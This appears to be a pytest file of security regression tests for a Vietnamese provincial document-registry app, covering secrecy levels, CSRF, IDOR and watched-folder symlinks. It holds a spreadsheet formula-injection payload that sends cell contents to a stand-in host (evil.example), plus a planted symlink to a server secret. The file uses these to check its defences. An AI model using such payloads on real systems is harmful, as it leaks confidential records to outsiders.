"""Findings of the second attack (the code after the unit-of-work refactor, identity and registers): one test each,
over HTTP against the real application. Each failed before its fix."""
from __future__ import annotations

import re
from typing import Any

import pytest

from services.core.dispatch import wait_idle

SECRET = ("ỦY BAN NHÂN DÂN TỈNH NGHỆ AN\nTUYỆT MẬT\nSố: 91/TB-UBND\nNghệ An, ngày 02 tháng 10 năm 2024\n\n"
          "THÔNG BÁO\nKết luận về phương án bí mật kinhmat91\n\nGiao Sở Xây dựng chủ trì, phối hợp với Sở Y tế "
          "triển khai, hoàn thành trước ngày 30/11/2024.\n")


@pytest.mark.usefixtures("db_backend")
def test_a_register_line_follows_its_documents_secrecy(client: Any, users: Any) -> None:
    """A clerk registers a file without a level (the default Thường); its stamp says Tuyệt mật. The line must not
    keep showing the document's number, sender and subject to a clerk, leader or export that may not see it."""
    top = users.headers("clerk", clearance=3, username="vanthu3")
    low = users.headers("clerk", clearance=0, username="vanthu0")
    leader0 = users.headers("leader", clearance=0, username="lanhdao0")
    r = client.post("/registry/incoming", headers=top, files={"file": ("mat.txt", SECRET.encode(), "text/plain")},
                    data={"sender": "UBND tỉnh Nghệ An", "doc_number": "91/TB-UBND",
                          "subject": "Phương án bí mật kinhmat91"})
    assert r.status_code == 201, r.text
    line = r.json()
    wait_idle(60)
    doc = client.get(f"/documents/{line['document_id']}").json()
    assert doc["status"] == "done" and doc["level"] == 3
    for who in (low, leader0):
        assert client.get(f"/documents/{line['document_id']}", headers=who).status_code == 404
        listing = client.get("/registry/incoming", headers=who)
        assert listing.status_code == 200 and "kinhmat91" not in listing.text, listing.text
        assert "91/TB-UBND" not in listing.text
        assert client.get(f"/registry/incoming/{line['id']}", headers=who).status_code == 404


@pytest.mark.usefixtures("db_backend")
def test_a_secret_new_version_is_not_named_to_the_old_versions_units(client: Any) -> None:
    """A clerk supersedes an ordinary notice by a Mật one. The old tasks are recalled and their units told why —
    but the units, who may not see the new version, must not learn its number or id from the reason."""
    from helpers.briefing import confirm_all, fast_headers, ingest, ok
    from helpers.notices import notice_text

    clerk = fast_headers("clerk", clearance=3, username="vanthu")
    staff = fast_headers("unit_staff", "Sở Y tế", 0, "yte1")
    items = ["Giao Sở Y tế chủ trì rà soát cơ số thuốc dự phòng, hoàn thành trước ngày 10/5/2009."]
    old = ingest(client, "tb-41.txt", notice_text("41/TB-UBND", "14/03/2009", items).encode(), clerk)
    sent = confirm_all(client, clerk, old)
    assert sent and ok(client.get(f"/tasks/{sent[0]['id']}", headers=staff))["state"] != "recalled"
    secret = notice_text("93/TB-UBND", "20/03/2009", items).replace("Số: 93/TB-UBND\n", "Số: 93/TB-UBND\nMẬT\n")
    new = ingest(client, "tb-93-mat.txt", secret.encode(), clerk)
    assert ok(client.get(f"/documents/{new}", headers=clerk))["level"] == 1
    assert client.get(f"/documents/{new}", headers=staff).status_code == 404
    ok(client.post(f"/documents/{new}/supersede", json={"replaces": old}, headers=clerk))
    wait_idle(60)
    task = client.get(f"/tasks/{sent[0]['id']}", headers=staff)
    assert task.status_code == 200 and task.json()["state"] == "recalled"
    assert "thay thế" in task.text
    assert "93/TB-UBND" not in task.text and new not in task.text, task.text
    inbox = client.get("/tasks", headers=staff, params={"include_inactive": True})
    assert "93/TB-UBND" not in inbox.text and new not in inbox.text


def test_a_notification_waiting_in_the_outbox_follows_a_tightening(client: Any,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A new-task e-mail is composed while the notice is ordinary, but the mail server is down; meanwhile the clerk
    stamps the notice Mật. The e-mail sent later must not carry the number and the duty (the Mật form says only
    that there is something); for a unit that may no longer see the document at all, nothing is sent."""
    from helpers.briefing import fast_headers, mail_server, ok, tasks_waiting_in_the_outbox

    from services.core.dispatch import run_task

    items = ["Giao Sở Y tế chủ trì kiểm tra kho thuốc dự trữ quốc gia, báo cáo trước ngày 20/11/2008.",
             "Giao Sở Giao thông vận tải chủ trì gia cố cầu tạm bến phà, hoàn thành trước ngày 30/12/2008."]
    # the e-mails wait in the outbox, composed for an ordinary notice
    doc, _ = tasks_waiting_in_the_outbox(client, monkeypatch, fast_headers("clerk", username="vanthu"),
                                         {"Sở Y tế": "syt@nghean.gov.vn", "Sở Giao thông vận tải": "gt@nghean.gov.vn"},
                                         "16/TB-UBND", "05/11/2008", items)
    leader = fast_headers("leader", username="lanhdao")
    ok(client.patch(f"/documents/{doc}/access", json={"level": 1, "audience": "units", "units": ["Sở Y tế"]},
                    headers=leader))
    wait_idle(60)
    with mail_server(monkeypatch) as box:
        run_task("briefing.send_notifications")
        sent = box.to("syt@nghean.gov.vn")
        assert sent, "the unit that still sees the document is still told"
        for subject, body in sent:
            assert "16/TB-UBND" not in subject + body and "kho thuốc" not in body and "đăng nhập" in body, body
        assert box.to("gt@nghean.gov.vn") == []  # may no longer see it: told nothing


@pytest.mark.usefixtures("db_backend")
def test_a_level_set_before_the_stamp_is_read_is_a_floor(anon_client: Any, users: Any) -> None:
    """A clerk of clearance Thường uploads a file and, while it waits in the queue (its stamp not read yet), sets its
    level to Thường and its audience to public. The stamp says Tuyệt mật: it must still raise the level — a clerk's
    early setting is no declassification (only a leader declassifies, and never a secret nobody has read)."""
    from security.test_findings import held_queue, upload

    low = users.headers("clerk", clearance=0, username="vanthu0")
    staff = users.headers("unit_staff", unit="Sở Y tế", clearance=0, username="yte0")
    with held_queue():
        doc = upload(anon_client, low, "a.txt", SECRET.encode())["items"][0]["document_id"]
        r = anon_client.patch(f"/documents/{doc}/access", json={"level": 0, "audience": "public"}, headers=low)
        assert r.status_code == 200, r.text
    wait_idle(60)
    admin = users.headers("admin", clearance=3, username="quantri")
    got = anon_client.get(f"/documents/{doc}", headers=admin).json()
    assert got["status"] == "done" and got["level"] == 3, got
    for who in (low, staff):
        assert anon_client.get(f"/documents/{doc}", headers=who).status_code == 404
    assert "kinhmat91" not in anon_client.get("/public/feed.atom").text


@pytest.mark.usefixtures("db_backend")
def test_an_outgoing_line_follows_its_documents_secrecy(client: Any, users: Any) -> None:
    """The sổ đi: a draft filed as Thường whose text is stamped Tuyệt mật is issued; once the stamp is read, its
    line (number, subject) is not shown to office users below that clearance."""
    from fixtures.builders import make_docx
    from helpers.registry import DOCX

    clerk = users.headers("clerk", clearance=3, username="vanthu3")
    leader = users.headers("leader", clearance=3, username="lanhdao3")
    low = users.headers("clerk", clearance=0, username="vanthu0")
    draft = make_docx(["TUYỆT MẬT", "Giao Sở Xây dựng chủ trì phương án bí mật kinhmat92, hoàn thành trước ngày "
                       "30/12/2026."], header_left=["ỦY BAN NHÂN DÂN", "TỈNH NGHỆ AN", "Số:      /UBND-KT"],
                      header_right=["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                                    "Nghệ An, ngày      tháng 12 năm 2026"], title=[],
                      signer=["TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH", "", "Lê Văn Bình"], recipients=["Nơi nhận:"])
    r = client.post("/registry/outgoing", headers=clerk, files={"file": ("du-thao.docx", draft, DOCX)},
                    data={"doc_type": "Công văn", "subject": "Về phương án bí mật kinhmat92",
                          "drafting_unit_code": "KT", "external_recipients": ["Bộ Tài chính"]})
    assert r.status_code == 201, r.text
    out = r.json()["id"]
    for action, who in (("submit", clerk), ("sign", leader), ("number", clerk), ("issue", clerk)):
        step = client.post(f"/registry/outgoing/{out}/{action}", headers=who,
                           json={"signer_title": "CHỦ TỊCH"} if action == "sign" else None)
        assert step.status_code == 200, step.text
    wait_idle(60)
    doc_id = client.get(f"/registry/outgoing/{out}", headers=clerk).json()["document_id"]
    assert client.get(f"/documents/{doc_id}").json()["level"] == 3
    listing = client.get("/registry/outgoing", headers=low)
    assert listing.status_code == 200 and "kinhmat92" not in listing.text, listing.text
    assert client.get(f"/registry/outgoing/{out}", headers=low).status_code == 404


def test_every_page_post_refuses_a_missing_csrf_token(anon_client: Any, users: Any) -> None:
    """Every state-changing page (each POST route under /ui, found in the application itself) answers a form
    without a valid CSRF token with the refusal — none acts first and checks after."""
    from e2e.test_web_http import make_user, web_login

    from services.web.session import PREFIX

    make_user("quantri-web", "admin", clearance=3)
    assert web_login(anon_client, "quantri-web").status_code == 303
    doc = upload_text(anon_client, users.headers("clerk", username="vanthu-web"))
    posts = sorted(p for p, methods in _routes(anon_client.app.routes)  # type: ignore[attr-defined]
                   if p.startswith(PREFIX + "/") and "POST" in methods)
    assert len(posts) >= 30, posts
    for path in posts:
        if path == PREFIX + "/login":
            continue
        real = re.sub(r"\{[a-z_]+\}", lambda m: doc if m.group(0) == "{document_id}" else
                      ("submit" if m.group(0) == "{action}" else "quantri-web" if m.group(0) == "{username}"
                       else "1" if m.group(0) == "{alias_id}" else "x"), path)
        for data in ({}, {"csrf": "0" * 64}):
            r = anon_client.post(real, data=data, follow_redirects=False)
            assert r.status_code == 403 and "tải lại trang" in r.text, (real, data, r.status_code, r.text[:200])
    assert anon_client.get(f"{PREFIX}/me").status_code == 200  # still logged in: logout was refused too


def _routes(routes: Any, prefix: str = "") -> Any:
    for r in routes:
        if hasattr(r, "path"):
            yield prefix + r.path, getattr(r, "methods", None) or ()
        elif hasattr(r, "include_context"):  # a router included in another
            yield from _routes(r.original_router.routes, prefix + r.include_context.prefix)


def upload_text(client: Any, headers: dict[str, str]) -> str:
    r = client.post("/documents", headers=headers, files=[("files", ("t.txt", SECRET.encode(), "text/plain"))])
    assert r.status_code == 202, r.text
    return str(r.json()["items"][0]["document_id"])


def test_page_urls_of_a_hidden_document_answer_as_a_missing_one(anon_client: Any, users: Any) -> None:
    """Every /ui/… GET taking a document id answers a hidden document exactly as an id that does not exist (same
    status, no content): no enumeration by error code, no IDOR."""
    from e2e.test_web_http import make_user, web_login

    from services.web.session import PREFIX

    doc = upload_text(anon_client, users.headers("clerk", username="vanthu-web"))
    wait_idle(60)
    make_user("lanhdao-web", "leader", clearance=0)
    assert web_login(anon_client, "lanhdao-web").status_code == 303
    gets = sorted(p for p, methods in _routes(anon_client.app.routes)  # type: ignore[attr-defined]
                  if p.startswith(PREFIX + "/") and "GET" in methods and "{document_id}" in p)
    assert gets, "the document pages"
    for path in gets:
        hidden = anon_client.get(path.replace("{document_id}", doc), follow_redirects=False)
        missing = anon_client.get(path.replace("{document_id}", "0" * 8 + doc[8:]), follow_redirects=False)
        assert hidden.status_code == missing.status_code and hidden.status_code in (403, 404), (path, hidden.status_code)
        assert "kinhmat91" not in hidden.text and "91/TB-UBND" not in hidden.text


FORMULA = '=HYPERLINK("http://evil.example/?"&F6,"Xem chi tiết")'


def _formula_cells(data: bytes) -> list[str]:
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_spreadsheet_exports_carry_no_formula_from_the_data(client: Any, users: Any) -> None:
    """A sender's text (an e-mail subject, an edXML header, a unit's progress note) that starts with "=" became a
    live formula in the Excel exports — a HYPERLINK that sends the neighbouring cells (other lines of the register)
    to an outside server when the clerk opens the file. Every cell of the data is text."""
    clerk = users.headers("clerk", clearance=3, username="vanthu3")
    own = SECRET.replace("91/TB-UBND", "93/TB-UBND").replace("kinhmat91", "kinhmat93")  # not another test's copy
    r = client.post("/registry/incoming", headers=clerk, files={"file": ("a.txt", own.encode(), "text/plain")},
                    data={"sender": "Sở Tài chính", "subject": FORMULA})
    assert r.status_code == 201, r.text
    register = r.json()["register_id"]
    export = client.get(f"/registry/registers/{register}/export", params={"format": "xlsx"}, headers=clerk)
    assert export.status_code == 200
    assert _formula_cells(export.content) == []
    import io

    from openpyxl import load_workbook

    cells = [c.value for ws in load_workbook(io.BytesIO(export.content)).worksheets for row in ws.iter_rows()
             for c in row]
    # kept verbatim, as text (alone, or after the document type once the document has been read)
    assert any(isinstance(c, str) and c.endswith(FORMULA) for c in cells), cells


def test_a_units_progress_note_is_text_in_the_leaders_report(client: Any) -> None:
    """The insider's way: unit staff write their progress note as a formula; the leader's Excel report keeps it as
    text (it would otherwise send the other units' lines away when opened)."""
    from helpers.briefing import confirm_all, fast_headers, ingest, ok
    from helpers.notices import notice_text

    clerk = fast_headers("clerk", username="vanthu")
    staff = fast_headers("unit_staff", "Sở Y tế", 0, "yte1")
    leader = fast_headers("leader", username="lanhdao")
    items = ["Giao Sở Y tế chủ trì kiểm tra kho thuốc dự trữ, báo cáo trước ngày 20/11/2008."]
    doc = ingest(client, "tb-17.txt", notice_text("17/TB-UBND", "05/11/2008", items).encode(), clerk)
    [task] = confirm_all(client, clerk, doc)
    ok(client.post(f"/tasks/{task['id']}/progress", json={"text": FORMULA, "percent": 10}, headers=staff))
    report = client.get("/reports/progress.xlsx", headers=leader, params={"as_of": "2008-11-10"})
    assert report.status_code == 200, report.text
    assert _formula_cells(report.content) == []


def test_the_watched_folder_does_not_follow_links(client: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever may drop files in the scanner's folder (often a network share) plants a link to a file of the server
    (the first administrator's password, the signing secret): polling must not read it into a document the clerks
    can open."""
    import os
    import time

    from services.core.config import get_settings
    from services.registry.intake import poll_folder

    secret = get_settings().data_dir / "khoa-bi-mat.txt"
    secret.write_text("mật khẩu quản trị: kinhmat94-khong-duoc-lo\n", encoding="utf-8")
    watch = tmp_path / "nhan"
    watch.mkdir()
    monkeypatch.setenv("VANBAN_REGISTRY_WATCH_DIR", str(watch))
    (watch / "cong-van.txt").symlink_to(secret)
    past = time.time() - 10
    os.utime(secret, (past, past))  # an old file of the server
    os.utime(watch / "cong-van.txt", (past, past), follow_symlinks=False)
    counts = poll_folder()
    assert counts == {"registered": 0, "failed": 1}, counts
    assert "symlink" in (watch / "loi" / "cong-van.txt.loi.txt").read_text(encoding="utf-8")
    assert secret.read_text(encoding="utf-8").startswith("mật khẩu")  # the server's file is untouched
    wait_idle(60)
    found = client.get("/documents", params={"limit": 200}).json()
    assert found["total"] == 0 and "kinhmat94" not in str(found)


def test_a_secret_replacement_is_not_numbered_to_the_old_recipients(client: Any, users: Any) -> None:
    """Thay thế: issuing a Mật document that replaces an ordinary one recalls the old one, and its recipients are told
    why — without the number of the Mật document (a number of the secret sổ đi)."""
    from helpers.registry import DOCX, reply_draft

    clerk = users.headers("clerk", clearance=3, username="vanthu3")
    leader = users.headers("leader", clearance=3, username="lanhdao3")
    head = users.headers("unit_head", unit="Sở Xây dựng", clearance=0, username="truongxd")

    def issued(level: int, replaces: str | None = None, send: bool = False) -> dict[str, Any]:
        data = {"doc_type": "Công văn", "subject": "Về việc thẩm định dự án", "drafting_unit_code": "KT",
                "internal_recipients": ["Sở Xây dựng"], "level": str(level)}
        if replaces:
            data["replaces_id"] = replaces
        r = client.post("/registry/outgoing", headers=clerk, files={"file": ("du-thao.docx", reply_draft(), DOCX)},
                        data=data)
        assert r.status_code == 201, r.text
        out = r.json()["id"]
        for action, who in (("submit", clerk), ("sign", leader), ("number", clerk), ("issue", clerk)) + (
                (("send", clerk),) if send else ()):
            step = client.post(f"/registry/outgoing/{out}/{action}", headers=who,
                               json={"signer_title": "PHÓ CHỦ TỊCH"} if action == "sign" else None)
            assert step.status_code == 200, step.text
        wait_idle(60)
        return dict(client.get(f"/registry/outgoing/{out}", headers=clerk).json())

    old = issued(0, send=True)
    new = issued(1, replaces=old["id"])
    assert client.get(f"/registry/outgoing/{old['id']}", headers=clerk).json()["state"] == "recalled"
    lines = client.get("/registry/incoming", headers=head)
    assert lines.status_code == 200 and "Thu hồi" in lines.text, lines.text
    [line] = lines.json()["items"]
    assert line["doc_number"] == old["full_number"] and new["full_number"] not in (line["note"] or ""), line
    assert "thay thế" in line["note"]
